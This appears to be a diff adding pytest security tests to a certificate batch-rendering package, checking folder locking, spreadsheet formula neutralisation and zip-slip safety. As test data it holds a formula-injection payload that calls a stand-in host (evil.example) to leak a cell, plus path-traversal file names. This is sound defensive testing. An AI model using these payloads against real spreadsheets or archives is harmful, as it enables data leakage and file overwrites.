@@ -5,14 +5,18 @@ personal data of failed records."""
 from __future__ import annotations
 
 import csv
+import io
 import os
 import random
+import shutil
 import signal
 import subprocess
 import sys
 import time
+import zipfile
 from pathlib import Path
 
+import openpyxl
 import pytest
 from hostile_harness import ROOT, hostile_settings
 from hypothesis import given
@@ -20,7 +24,7 @@ from hypothesis import strategies as st
 
 from nastavnik_docs._files import TEMP_PREFIX
 from nastavnik_docs._resources import sample_path
-from nastavnik_docs.batch import records_from_source, render_batch
+from nastavnik_docs.batch import Numbering, records_from_source, render_batch
 from nastavnik_docs.batch._lock import LOCK_NAME
 from nastavnik_docs.errors import OutputError
 
@@ -239,3 +243,60 @@ def test_failed_records_never_show_personal_data(tmp_path_factory, certificate_r
     rows = list(csv.reader(saved.splitlines(), delimiter=";"))
     assert rows[1][0] == "2" and (rows[1][1] == "") == redact
     tally.add("privacy", "скрыты (--redact: только номер)" if redact else "скрыты")
+
+
+@pytest.mark.hostile("batches")
+def test_a_folder_in_use_refuses_numbered_and_pdf_runs_too(tmp_path, tally):
+    """The journal, the PDF copies and the archive of a folder batch are made inside the
+    lock: a run with numbers or PDF into a folder in use is refused and writes nothing."""
+    out = tmp_path / "out"
+    records = records_from_source("award.certificate", REGISTRY, common=COMMON)
+    render_batch("award.certificate", records[:1], out)
+    holder = subprocess.Popen([sys.executable, "-c", HOLD, str(out), f"{TEMP_PREFIX}4242-x.docx", "30"], env=ENV,
+                              stdout=subprocess.PIPE, text=True)
+    extras: list[dict] = [{"numbering": Numbering("С-", 1, 3)}, {"numbering": Numbering("С-", 1, 3), "overwrite": True}]
+    if shutil.which("soffice"):
+        extras.append({"pdf": True})
+    try:
+        assert holder.stdout is not None and holder.stdout.readline().strip() == "holding"
+        before = sorted(p.name for p in out.iterdir())
+        for extra in extras:
+            with pytest.raises(OutputError, match="уже идёт другой выпуск"):
+                render_batch("award.certificate", records, out, **extra)
+            assert sorted(p.name for p in out.iterdir()) == before, extra
+            tally.add("batches", "второй запуск отклонён, ничего не тронуто")
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+@pytest.mark.hostile("formulas")
+def test_the_journal_sheet_keeps_formula_like_names_as_text(tmp_path, tally):
+    records = records_from_source("award.certificate", REGISTRY, common=COMMON)[:3]
+    payloads = ['=HYPERLINK("http://evil.example/?leak="&C3,"…")', "+79001234567", "@SUM(1,1)"]
+    hostile = [dict(r, recipient=dict(r["recipient"], last_name=p)) for r, p in zip(records, payloads, strict=True)]
+    report = render_batch("award.certificate", hostile, tmp_path / "out", numbering=Numbering("=1+", 1, 1))
+    assert not report.failed and report.journal is not None
+    cells = [c for row in openpyxl.load_workbook(report.journal).active.iter_rows() for c in row
+             if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    assert {c.value.split()[0] for c in risky} >= {"=1+1", "=1+2", "=1+3", "+79001234567", "@SUM(1,1)"}
+    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
+    tally.add("formulas", "журнал: текст, не формула")
+
+
+@pytest.mark.hostile("batches")
+@hostile_settings(30)
+@given(name=st.sampled_from(["../../../tmp/evil", "/etc/passwd", "..\\..\\win", "C:\\Windows\\x", "CON", "a/../../b",
+                             "..", "\x00nul", " .hidden"]) | st.text(min_size=1, max_size=30))
+def test_a_batch_archive_never_holds_a_path_outside_itself(certificate_record, name, tally):
+    """A name from the data becomes one file name at the top of the archive (--zip):
+    never a folder, a path upwards or an absolute path (a «zip slip» on unpacking)."""
+    records = [dict(certificate_record, recipient=dict(certificate_record["recipient"], last_name=name))]
+    buffer = io.BytesIO()
+    render_batch("award.certificate", records, buffer)
+    for entry in zipfile.ZipFile(io.BytesIO(buffer.getvalue())).namelist():
+        assert "/" not in entry and "\\" not in entry and "\x00" not in entry, entry
+        assert entry not in (".", "..") and not entry.startswith("."), entry
+    tally.add("batches", "имя в архиве — без пути")
